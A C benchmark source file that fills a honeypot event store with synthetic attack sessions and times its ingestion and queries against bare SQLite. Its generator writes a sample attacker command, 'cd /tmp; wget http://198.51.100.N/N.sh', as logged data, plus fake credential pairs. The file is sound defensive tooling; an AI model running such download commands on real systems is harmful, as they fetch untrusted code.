/* The store against bare SQLite: events in with all tallies, and how long questions take.
 *
 *   store_bench [EVENTS [DAYS [SOURCES [PASSWORDS]]]]     default 1000000 90 100000 50000
 *   store_bench --factors [the same]                      default 1000000 9 100000 50000
 *
 * Ours is timed from the JSON line on: reading it, looking everything up, rows, sums, commits, and
 * putting days together. Bare inserts the finished rows into the same tables with the same indexes,
 * pragmas and batch size, in the same run: events chunk by chunk in turn with ours, so that both
 * meet the same machine, then those of the other tables (words, sessions, sources, credentials),
 * each once and final. The ratio without those is printed too, and that of processor time, which
 * what else the machine does changes less.
 *
 * What a question costs depends on the number of keys that it adds up, so that is printed as well.
 * More events in the same days have more different keys in an hour, unless SOURCES and PASSWORDS
 * are so few that all of them come every hour. So --factors compares a store with one of ten times
 * the events over ten times the days, without the bare side: an hour is as busy in both.
 */
#include <fcntl.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <sqlite3.h>

#include "base/clock.h"
#include "base/log.h"
#include "store/query.h"
#include "store/schema.h"
#include "store/sqlite_folder.h"
#include "store/store.h"

#define CHUNK      STORE_BATCH_MAX
#define COLUMNS    24                             /* at most, of any table */
#define START      (INT64_C(1767225600) * SECOND) /* 2026-01-01 */
#define SENSORS    9
#define QUERY_RUNS 5

struct generator {
	uint64_t state;
	struct ulid_source ids, session_ids;
	int64_t events, days, sources, passwords;
	int64_t made;
	char session[ULID_LENGTH + 1];
	int step, steps, sensor, protocol;
	int64_t source;
};

static uint64_t draw(struct generator *g)
{
	g->state ^= g->state << 13;
	g->state ^= g->state >> 7;
	g->state ^= g->state << 17;
	return g->state;
}

/* Of count, few often and many rarely (density 1/x). */
static int64_t zipf(struct generator *g, int64_t count)
{
	double u = (double)(draw(g) >> 11) / 9007199254740992.0;

	return (int64_t)(exp(u * log((double)count)) - 1e-9);
}

static const struct {
	const char *name;
	int port;
} protocols[] = {{"ssh", 22},     {"telnet", 23},  {"http", 80},  {"smb", 445},
		 {"mssql", 1433}, {"mysql", 3306}, {"rdp", 3389}, {"sip", 5060}};

static void start_session(struct generator *g, int64_t time)
{
	ulid_next(&g->session_ids, time, g->session);
	g->step = 0;
	g->steps = 2 + (int)(draw(g) % 6);
	g->source = zipf(g, g->sources) * 2654435761 % 4000000007;
	g->sensor = (int)(draw(g) % SENSORS);
	g->protocol = (int)zipf(g, (int64_t)ARRAY_COUNT(protocols) + 1) % 8;
}

static void describe(struct generator *g, struct event *event, char words[][64])
{
	int users = (int)(g->passwords / 10 + 1), user, password, payload;

	event_set_words(event, FIELD_SESSION_ID, g->session);
	event_set_words(event, FIELD_NETWORK_PROTOCOL, protocols[g->protocol].name);
	event_set_words(event, FIELD_NETWORK_TRANSPORT, "tcp");
	event_set_number(event, FIELD_DESTINATION_PORT, protocols[g->protocol].port);
	event_set_number(event, FIELD_SOURCE_PORT, (int64_t)(1024 + draw(g) % 60000));
	snprintf(words[0], sizeof(words[0]), "sensor-%d", g->sensor);
	event_set_words(event, FIELD_OBSERVER_NAME, words[0]);
	if (g->step == 0) {
		event_set_words(event, FIELD_EVENT_ACTION, "session.open");
	} else if (g->step == g->steps - 1) {
		event_set_words(event, FIELD_EVENT_ACTION, "session.close");
		event_set_number(event, FIELD_EVENT_DURATION, 1500000000);
		event_set_number(event, FIELD_SOURCE_BYTES, 900);
		event_set_number(event, FIELD_DESTINATION_BYTES, 2200);
		event_set_words(event, FIELD_EVENT_REASON, "client closed");
	} else if (g->step < 5) {
		event_set_words(event, FIELD_EVENT_ACTION, "auth.attempt");
		/* Attackers work through lists of pairs: mostly the password says the user. */
		password = (int)zipf(g, g->passwords);
		user = draw(g) % 10 ? (int)((int64_t)password * 7919 % users) / (1 + password % 97)
				    : (int)zipf(g, users);
		snprintf(words[1], sizeof(words[1]), "user%d", user);
		snprintf(words[2], sizeof(words[2]), "Passw0rd%d", password);
		event_set_words(event, FIELD_USER_NAME, words[1]);
		event_set_words(event, FIELD_AUTH_PASSWORD, words[2]);
		event_set_words(event, FIELD_EVENT_OUTCOME, draw(g) % 50 ? "failure" : "success");
	} else {
		event_set_words(event, FIELD_EVENT_ACTION, "command.input");
		payload = (int)zipf(g, g->passwords * 2 / 5 + 1);
		snprintf(words[1], sizeof(words[1]), "cd /tmp; wget http://198.51.100.%d/%d.sh",
			 payload % 255, payload);
		event_set_words(event, FIELD_COMMAND, words[1]);
	}
}

static void generate(struct generator *g, struct writer *line)
{
	int64_t time =
		START + (int64_t)((double)g->made / (double)g->events * (double)(g->days * DAY));
	char id[ULID_LENGTH + 1], words[3][64];
	static const char *const countries[] = {"CN", "US", "RU", "DE", "BR", "VN", "IN", "NL"};
	struct address source;
	struct event event;

	if (g->step == g->steps)
		start_session(g, time);
	event_clear(&event);
	ulid_next(&g->ids, time, id);
	source = address_v4((uint32_t)(0x0b000000 + g->source));
	event_set_number(&event, FIELD_TIME, time);
	event_set_words(&event, FIELD_EVENT_ID, id);
	event_set_number(&event, FIELD_SCHEMA, EVENT_SCHEMA_VERSION);
	event_set_address(&event, FIELD_SOURCE_IP, &source);
	event_set_words(&event, FIELD_SOURCE_COUNTRY, countries[g->source % 8]);
	event_set_number(&event, FIELD_SOURCE_ASN, 1000 + g->source % 3000);
	event_set_real(&event, FIELD_SOURCE_LATITUDE, (double)(g->source % 100) - 50);
	event_set_real(&event, FIELD_SOURCE_LONGITUDE, (double)(g->source % 300) - 150);
	describe(g, &event, words);
	writer_clear(line);
	event_write(&event, line);
	g->step++;
	g->made++;
}

/* --- ours --- */

struct taken {
	double seconds, processor;
};

static double processor_seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static double seconds_since(int64_t start)
{
	return (double)(clock_monotonic() - start) / 1e6;
}

static struct taken start_taking(void)
{
	return (struct taken){(double)clock_monotonic() / 1e6, processor_seconds()};
}

/* Adds what passed since start. */
static void take(struct taken *sum, struct taken start)
{
	sum->seconds += (double)clock_monotonic() / 1e6 - start.seconds;
	sum->processor += processor_seconds() - start.processor;
}

static void ingest(struct store *store, const struct writer *lines, size_t count,
		   struct taken *taken)
{
	struct taken start = start_taking();
	struct spool_position after = {1, 0};

	for (size_t i = 0; i < count; i++) {
		if (store_batch(store) == 0 && store_begin(store) < 0)
			fatal("begin: %s", store_problem(store));
		after.offset += lines[i].length + 1;
		if (store_add(store, writer_slice(&lines[i]), "bench", after) != STORE_STORED)
			fatal("add: %s", store_problem(store));
		if ((store_batch(store) == STORE_BATCH_MAX || i + 1 == count) &&
		    store_commit(store) < 0)
			fatal("commit: %s", store_problem(store));
	}
	while (store_tend(store) > 0)
		continue;
	take(taken, start);
}

/* --- bare --- */

/* A value kept outside of SQLite, so that our side does not pay for its allocations. */
struct cell {
	int type, length;
	int64_t number;
	double real;
	size_t at; /* of text and blobs, in bytes */
};

struct bare {
	sqlite3 *from, *to;
	sqlite3_stmt *select, *insert;
	struct cell *cells; /* CHUNK rows of COLUMNS */
	struct writer bytes;
};

static void must(int answer, sqlite3 *database)
{
	if (answer != SQLITE_OK && answer != SQLITE_DONE && answer != SQLITE_ROW)
		fatal("bare: %s", sqlite3_errmsg(database));
}

static void keep_row(struct bare *bare, sqlite3_stmt *select, struct cell *row)
{
	for (int c = 0; c < sqlite3_column_count(select); c++) {
		struct cell *cell = &row[c];

		cell->type = sqlite3_column_type(select, c);
		cell->number = sqlite3_column_int64(select, c);
		cell->real = sqlite3_column_double(select, c);
		cell->at = bare->bytes.length;
		cell->length = 0;
		if (cell->type != SQLITE_TEXT && cell->type != SQLITE_BLOB)
			continue;
		cell->length = sqlite3_column_bytes(select, c);
		writer_bytes(&bare->bytes,
			     slice_of(sqlite3_column_blob(select, c), (size_t)cell->length));
	}
}

static void insert_row(struct bare *bare, sqlite3_stmt *insert, const struct cell *row)
{
	for (int c = 0; c < sqlite3_bind_parameter_count(insert); c++) {
		const struct cell *cell = &row[c];
		const char *at = (const char *)bare->bytes.at + cell->at;

		if (cell->type == SQLITE_INTEGER)
			sqlite3_bind_int64(insert, c + 1, cell->number);
		else if (cell->type == SQLITE_FLOAT)
			sqlite3_bind_double(insert, c + 1, cell->real);
		else if (cell->type == SQLITE_TEXT)
			sqlite3_bind_text(insert, c + 1, at, cell->length, SQLITE_STATIC);
		else if (cell->type == SQLITE_BLOB)
			sqlite3_bind_blob(insert, c + 1, at, cell->length, SQLITE_STATIC);
		else
			sqlite3_bind_null(insert, c + 1);
	}
	must(sqlite3_step(insert), bare->to);
	sqlite3_reset(insert);
}

static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
{
	char name[SQLITE_FOLDER_NAME_MAX], why[256];

	if (sqlite_folder_name(ours_fd, STORE_FILE, name) < 0)
		fatal("no name");
	must(sqlite3_open_v2(name, &bare->from, SQLITE_OPEN_READONLY, "unix"), bare->from);
	if (sqlite_folder_name(bare_fd, "bare.db", name) < 0)
		fatal("no name");
	must(sqlite3_open_v2(name, &bare->to,
			     SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE | SQLITE_OPEN_NOMUTEX,
			     "unix"),
	     bare->to);
	must(sqlite3_exec(bare->to,
			  "PRAGMA auto_vacuum=INCREMENTAL; PRAGMA journal_mode=WAL;"
			  "PRAGMA synchronous=NORMAL; PRAGMA cache_size=-24576;"
			  "PRAGMA wal_autocheckpoint=8000; PRAGMA journal_size_limit=33554432",
			  NULL, NULL, NULL),
	     bare->to);
	if (schema_prepare(bare->to, why, sizeof(why)) < 0)
		fatal("%s", why);
	must(sqlite3_prepare_v2(bare->from, "SELECT * FROM event WHERE id > ? ORDER BY id LIMIT ?",
				-1, &bare->select, NULL),
	     bare->from);
	must(sqlite3_prepare_v2(bare->to,
				"INSERT INTO event VALUES(?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
				-1, &bare->insert, NULL),
	     bare->to);
	bare->bytes = writer_growing(1u << 30);
	bare->cells = calloc((size_t)CHUNK * COLUMNS, sizeof(*bare->cells));
	if (!bare->cells)
		fatal("no memory");
}

static void bare_insert(struct bare *bare, int64_t after, size_t count, struct taken *taken)
{
	struct taken start;

	writer_clear(&bare->bytes);
	sqlite3_bind_int64(bare->select, 1, after);
	sqlite3_bind_int64(bare->select, 2, (int64_t)count);
	for (size_t i = 0; i < count; i++) {
		if (sqlite3_step(bare->select) != SQLITE_ROW)
			fatal("rows are missing");
		keep_row(bare, bare->select, &bare->cells[i * COLUMNS]);
	}
	sqlite3_reset(bare->select);
	start = start_taking();
	for (size_t i = 0; i < count; i++) {
		if (i % STORE_BATCH_MAX == 0)
			must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
		insert_row(bare, bare->insert, &bare->cells[i * COLUMNS]);
		if ((i + 1) % STORE_BATCH_MAX == 0 || i + 1 == count)
			must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
	}
	take(taken, start);
}

/* All rows of a table that is no event. */
static void bare_copy(struct bare *bare, const char *table, struct taken *taken)
{
	char sql[256];
	sqlite3_stmt *select, *insert;
	int columns, answer;

	snprintf(sql, sizeof(sql), "SELECT * FROM %s", table);
	must(sqlite3_prepare_v2(bare->from, sql, -1, &select, NULL), bare->from);
	columns = sqlite3_column_count(select);
	snprintf(sql, sizeof(sql), "INSERT INTO %s VALUES(%.*s)", table, 2 * columns - 1,
		 "?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?");
	must(sqlite3_prepare_v2(bare->to, sql, -1, &insert, NULL), bare->to);
	do {
		size_t count = 0;
		struct taken start;

		writer_clear(&bare->bytes);
		while (count < CHUNK && (answer = sqlite3_step(select)) == SQLITE_ROW)
			keep_row(bare, select, &bare->cells[count++ * COLUMNS]);
		start = start_taking();
		must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
		for (size_t i = 0; i < count; i++)
			insert_row(bare, insert, &bare->cells[i * COLUMNS]);
		must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
		take(taken, start);
	} while (answer == SQLITE_ROW);
	sqlite3_finalize(select);
	sqlite3_finalize(insert);
}

static void bare_close(struct bare *bare)
{
	sqlite3_finalize(bare->select);
	sqlite3_finalize(bare->insert);
	sqlite3_close(bare->from);
	sqlite3_close(bare->to);
	free(bare->cells);
	writer_free(&bare->bytes);
}

/* --- questions --- */

static bool pass_event(void *context, const struct query_event *event)
{
	*(int64_t *)context += (int64_t)event->json.length;
	return true;
}

/* Returns the number of keys. */
static int64_t ask_top(struct store *store, const char *dimension, const struct query_range *range)
{
	struct query_rows rows;

	if (query_top(store, dimension_named(slice_text(dimension)), MEASURE_OWN, range, 10,
		      &rows) < 0)
		fatal("top: %s", store_problem(store));
	query_rows_free(&rows);
	return rows.distinct;
}

/* Returns the number of keys that were added up, or 0. */
static int64_t ask(struct store *store, const char *what, const struct query_range *range)
{
	struct query_totals totals;
	struct query_point *points;
	struct query_filter filter = query_filter_any();
	size_t count;
	int64_t sum = 0, keys = 0;
	int result = 0;

	if (strcmp(what, "totals") == 0) {
		result = query_totals(store, range, &totals);
		keys = totals.sources + totals.countries;
	} else if (strcmp(what, "timeline") == 0) {
		result = query_timeline(store, range, DAY, &points, &count);
		free(points);
	} else if (strcmp(what, "events") == 0) {
		filter.range = *range;
		result = query_events(store, &filter, pass_event, &sum, NULL);
	} else {
		keys = ask_top(store, what, range);
	}
	if (result < 0)
		fatal("%s: %s", what, store_problem(store));
	return keys;
}

#define SPANS 4

struct timing {
	double best[SPANS]; /* milliseconds */
	int64_t keys[SPANS];
};

static const char *const questions[] = {
	"source.ip",        "source.country", "source.asn", "source.location",
	"destination.port", "user.name",      "password",   "credential",
	"command",          "totals",         "timeline",   "events",
};

/* Asks about the last day, week, 30 days, and all. */
static void time_question(int fd, int64_t end, const char *question, struct timing *timing)
{
	static const int days[SPANS] = {1, 7, 30, 0};
	char why[256];

	for (size_t d = 0; d < SPANS; d++) {
		struct query_range range = {days[d] ? end - days[d] * DAY : 0, 0, NULL};

		timing->best[d] = INFINITY;
		for (int run = 0; run < QUERY_RUNS; run++) {
			int64_t start = clock_monotonic();
			struct store *store = store_open(fd, STORE_READ, NULL, why, sizeof(why));

			if (!store)
				fatal("%s", why);
			timing->keys[d] = ask(store, question, &range);
			store_close(store);
			timing->best[d] = fmin(timing->best[d], seconds_since(start) * 1e3);
		}
	}
}

static void print_timings(const struct timing timings[])
{
	printf("%-18s%10s%10s%10s%10s%10s%10s   ms, best of %d, own connection each\n", "question",
	       "24h", "7d", "30d", "all", "keys 24h", "keys all", QUERY_RUNS);
	for (size_t q = 0; q < ARRAY_COUNT(questions); q++) {
		printf("%-18s", questions[q]);
		for (size_t d = 0; d < SPANS; d++)
			printf("%10.2f", timings[q].best[d]);
		printf("%10lld%10lld\n", (long long)timings[q].keys[0],
		       (long long)timings[q].keys[SPANS - 1]);
	}
}

static void print_factors(const struct timing one[], const struct timing ten[])
{
	printf("%-18s%10s%10s%10s%10s   ms at ten times the data / ms\n", "question", "24h", "7d",
	       "30d", "all");
	for (size_t q = 0; q < ARRAY_COUNT(questions); q++) {
		printf("%-18s", questions[q]);
		for (size_t d = 0; d < SPANS; d++)
			printf("%10.2f", ten[q].best[d] / one[q].best[d]);
		printf("\n");
	}
}

static int folder(const char *parent, const char *name)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", parent, name);
	if (mkdir(path, 0700) < 0)
		fatal("mkdir %s: %m", path);
	return open(path, O_RDONLY | O_DIRECTORY);
}

static void clear(int fd, const char *file)
{
	static const char *const ends[] = {"", "-wal", "-shm"};
	char name[64];

	for (size_t i = 0; i < ARRAY_COUNT(ends); i++) {
		snprintf(name, sizeof(name), "%s%s", file, ends[i]);
		unlinkat(fd, name, 0);
	}
}

static struct store *open_writer(int fd)
{
	char why[256];
	struct store *store = store_open(fd, STORE_WRITE, NULL, why, sizeof(why));

	if (!store)
		fatal("%s", why);
	return store;
}

static struct writer *new_lines(void)
{
	struct writer *lines = calloc(CHUNK, sizeof(*lines));

	if (!lines)
		fatal("no memory");
	for (size_t i = 0; i < CHUNK; i++)
		lines[i] = writer_growing(EVENT_LINE_MAX);
	return lines;
}

static void free_lines(struct writer *lines)
{
	for (size_t i = 0; i < CHUNK; i++)
		writer_free(&lines[i]);
	free(lines);
}

static void print_rates(const struct generator *g, const struct taken *ours,
			const struct taken *theirs, const struct taken *events_only)
{
	printf("%lld events, %lld days: ours %.0f/s, bare %.0f/s, ratio %.2f (event rows only: "
	       "%.0f/s, %.2f)\n",
	       (long long)g->events, (long long)g->days, (double)g->events / ours->seconds,
	       (double)g->events / theirs->seconds, theirs->seconds / ours->seconds,
	       (double)g->events / events_only->seconds, events_only->seconds / ours->seconds);
	printf("each processor second: ours %.0f, bare %.0f, ratio %.2f\n",
	       (double)g->events / ours->processor, (double)g->events / theirs->processor,
	       theirs->processor / ours->processor);
}

/* Fills a store, and with bare_fd >= 0 a bare database beside it, and tells how fast. */
static void fill(struct generator *g, int ours_fd, int bare_fd)
{
	struct writer *lines = new_lines();
	struct store *store = open_writer(ours_fd);
	struct taken ours = {0}, theirs = {0}, events_only;
	struct bare bare = {0};
	struct store_status status;

	if (bare_fd >= 0)
		bare_open(&bare, ours_fd, bare_fd);
	while (g->made < g->events) {
		int64_t before = g->made;
		size_t count = 0;

		for (; count < CHUNK && g->made < g->events; count++)
			generate(g, &lines[count]);
		ingest(store, lines, count, &ours);
		if (bare_fd >= 0)
			bare_insert(&bare, before, count, &theirs);
	}
	if (bare_fd >= 0) {
		events_only = theirs;
		bare_copy(&bare, "word", &theirs);
		bare_copy(&bare, "source", &theirs);
		bare_copy(&bare, "session", &theirs);
		bare_copy(&bare, "credential", &theirs);
		bare_close(&bare);
		print_rates(g, &ours, &theirs, &events_only);
	} else {
		printf("%lld events, %lld days: %.0f/s, each processor second %.0f\n",
		       (long long)g->events, (long long)g->days, (double)g->events / ours.seconds,
		       (double)g->events / ours.processor);
	}
	if (store_status(store, &status) < 0)
		fatal("%s", store_problem(store));
	printf("%.0f bytes an event, lines of %zu\n", (double)status.bytes / (double)g->events,
	       lines[0].length);
	fflush(stdout);
	store_close(store);
	free_lines(lines);
}

static void ask_all(int fd, int64_t days, struct timing timings[])
{
	for (size_t q = 0; q < ARRAY_COUNT(questions); q++)
		time_question(fd, START + days * DAY, questions[q], &timings[q]);
	print_timings(timings);
	fflush(stdout);
}

static void compare_with_bare(const char *scratch, struct generator g)
{
	struct timing timings[ARRAY_COUNT(questions)];
	int ours_fd = folder(scratch, "ours"), bare_fd = folder(scratch, "bare");

	fill(&g, ours_fd, bare_fd);
	ask_all(ours_fd, g.days, timings);
	clear(ours_fd, STORE_FILE);
	clear(bare_fd, "bare.db");
	close(ours_fd);
	close(bare_fd);
}

static void compare_with_ten(const char *scratch, struct generator g)
{
	struct timing one[ARRAY_COUNT(questions)], ten[ARRAY_COUNT(questions)];
	struct generator more = g;
	int one_fd = folder(scratch, "one"), ten_fd = folder(scratch, "ten");

	more.events *= 10;
	more.days *= 10;
	fill(&g, one_fd, -1);
	fill(&more, ten_fd, -1);
	/* One after the other, both warm, so that the two meet the same machine. */
	ask_all(one_fd, g.days, one);
	ask_all(ten_fd, more.days, ten);
	print_factors(one, ten);
	clear(one_fd, STORE_FILE);
	clear(ten_fd, STORE_FILE);
	close(one_fd);
	close(ten_fd);
}

int main(int argc, char **argv)
{
	struct generator g = {.state = 88172645463325252u,
			      .events = 1000000,
			      .days = 90,
			      .sources = 100000,
			      .passwords = 50000};
	static const char *const folders[] = {"ours", "bare", "one", "ten"};
	char scratch[] = "/tmp/store-bench-XXXXXX";
	bool factors = argc > 1 && strcmp(argv[1], "--factors") == 0;

	if (factors) {
		g.days = 9;
		argc--;
		argv++;
	}
	if (argc > 1)
		g.events = strtoll(argv[1], NULL, 10);
	if (argc > 2)
		g.days = strtoll(argv[2], NULL, 10);
	if (argc > 3)
		g.sources = strtoll(argv[3], NULL, 10);
	if (argc > 4)
		g.passwords = strtoll(argv[4], NULL, 10);
	if (g.events <= 0 || g.days <= 0 || g.sources <= 0 || g.passwords <= 0)
		fatal("store_bench [--factors] [EVENTS [DAYS [SOURCES [PASSWORDS]]]]");
	if (!mkdtemp(scratch))
		fatal("no scratch folder: %m");
	(factors ? compare_with_ten : compare_with_bare)(scratch, g);
	if (chdir(scratch) == 0) {
		for (size_t i = 0; i < ARRAY_COUNT(folders); i++)
			unlinkat(AT_FDCWD, folders[i], AT_REMOVEDIR);
		if (chdir("/") == 0)
			rmdir(scratch);
	}
	return 0;
}
